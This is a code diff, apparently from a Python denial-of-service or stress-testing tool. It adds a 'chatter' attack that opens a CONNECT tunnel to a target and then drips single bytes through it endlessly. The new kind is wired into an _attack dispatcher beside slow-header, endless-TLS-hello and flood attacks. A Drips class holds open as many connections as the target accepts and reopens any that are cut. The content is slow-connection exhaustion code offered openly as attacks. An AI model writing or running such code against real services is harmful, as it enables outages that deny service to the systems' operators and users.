@@ -43,6 +43,11 @@ def endless_hellos(number: int, target: str) -> Iterator[bytes]:
     return chain((_connect(target, 443) + _HELLO,), repeat(bytes(1 if number % 2 else 4096)))
 
 
+def chatter(number: int, target: str) -> Iterator[bytes]:
+    """A CONNECT, then single bytes through the tunnel."""
+    return chain((_connect(target, 80),), repeat(b"a"))
+
+
 class Drips:
     """As many connections as the door takes, each sent the next piece in turn; a cut one is opened anew."""
 
@@ -151,7 +156,7 @@ def _attack(kind: str, target: str) -> Drips | Flood | Computing:
         return Flood(target)
     if kind == "computing":
         return Computing()
-    pieces = {"slow-heads": slow_heads, "endless-hellos": endless_hellos}[kind]
+    pieces = {"slow-heads": slow_heads, "endless-hellos": endless_hellos, "chatter": chatter}[kind]
     return Drips(pieces(number, target) for number in count())
 
 
